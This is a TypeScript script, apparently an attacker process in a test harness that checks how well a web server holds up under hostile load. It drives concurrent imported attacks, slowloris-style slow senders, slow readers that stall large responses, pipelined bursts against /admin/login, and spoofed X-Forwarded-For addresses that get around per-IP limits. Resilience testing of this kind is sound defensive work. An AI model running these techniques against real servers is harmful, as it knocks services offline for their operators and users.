import http from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { attacks, type Sent } from './attacks'

// One visitor who means harm, as a process of its own: what it works must not delay those who measure.
//   attacker.ts <url> <seconds>
// Says at the end, as JSON, what it was answered: for each attack how often which status.

const address = '203.0.113.66'
const together = 48
const slowOnes = 150
/** Their answers are large, and never read. */
const slowPath = (number: number) =>
  `/api/content?limit=100&depth=0&where[title][not_equals]=s${number % 8}`

const [url = '', seconds = '30'] = process.argv.slice(2)
const { hostname, port } = new URL(url)
const until = Date.now() + Number(seconds) * 1000
const told: Record<string, Record<string, number>> = {}
const agent = new http.Agent({ keepAlive: true, maxSockets: together })

const note = (name: string, answer: string | number) => {
  const answers = (told[name] ??= {})
  answers[answer] = (answers[answer] ?? 0) + 1
}

const headersOf = ({ headers, body }: Sent) => ({
  'X-Forwarded-For': address,
  ...headers,
  ...(body === undefined ? {} : { 'Content-Length': Buffer.byteLength(body) }),
})

const ask = (sent: Sent) =>
  new Promise<string | number>((resolve) => {
    const { path, method = 'GET', body } = sent
    const options = { agent, method, headers: headersOf(sent), timeout: 20_000 }
    const request = http.request(
      url + encodeURI(path).replaceAll('%25', '%'),
      options,
      (response) => {
        response.resume().on('end', () => resolve(response.statusCode ?? 0))
        response.on('error', () => resolve('broken off'))
      },
    )
    request.on('timeout', () => request.destroy(new Error('no answer')))
    request.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message))
    request.end(body)
  })

let number = Date.now() % 1_000_000

/** Each worker goes through all of them, one after another, from a place of its own. */
const work = async (from: number) => {
  for (let turn = from; Date.now() < until; turn++) {
    const { name, request } = attacks[turn % attacks.length]!
    note(name, await ask(request(number++)))
  }
}

const headOf = (from: string, line: string, ...more: string[]) =>
  [line, `Host: ${hostname}`, `X-Forwarded-For: ${from}`, ...more, '', ''].join('\r\n')
const head = (line: string, ...more: string[]) => headOf(address, line, ...more)

const open = (first: string, go: (socket: Socket) => void) => {
  const socket = connect(Number(port), hostname, () => socket.write(first))
  socket.on('error', () => undefined)
  go(socket)
  return socket
}

/** Slow readers: they take a large answer and leave it in the server's hands. */
const slowReader = (one: number) =>
  open(head(`GET ${slowPath(one)} HTTP/1.1`), (socket) => socket.pause())

/** Slow senders (slowloris): a header, or a body, a letter at a time. */
const slowSender = (one: number) => {
  const starts = [
    `GET /api/content HTTP/1.1\r\nHost: ${hostname}\r\nX-A: `,
    head('POST /api/contact HTTP/1.1', 'Content-Type: application/json', 'Content-Length: 60000'),
  ]
  return open(starts[one % 2]!, (socket) => {
    const timer = setInterval(() => socket.write('a'), 1000)
    socket.on('close', () => clearInterval(timer))
    socket.resume()
  })
}

/** Pages, several on a connection (pipelining). Two addresses are enough to ask for all that are rendered at once. */
const pages = (many: number) =>
  Array.from({ length: many }, (_, one) =>
    headOf(`203.0.113.${67 + (number++ % 2)}`, `GET /admin/login?${one} HTTP/1.1`),
  ).join('')

const pagesUnread = () => open(pages(90), (socket) => socket.pause())

const pagesLeft = () =>
  open(pages(3), (socket) => socket.on('connect', () => setTimeout(() => socket.destroy(), 10)))

const workers = Array.from({ length: together }, (_, one) => work(one * 7))
const leaving = setInterval(pagesLeft, 250)
const sockets: Socket[] = []
for (let one = 0; one < slowOnes && Date.now() < until; one++) {
  sockets.push(slowReader(one), slowSender(one))
  if (one % 10 === 0) sockets.push(pagesUnread())
  await wait(20)
}
await Promise.all(workers)
clearInterval(leaving)
const closed = sockets.filter(({ destroyed }) => destroyed).length
console.log(JSON.stringify({ told, slow: { opened: sockets.length, closed } }))
process.exit(0)
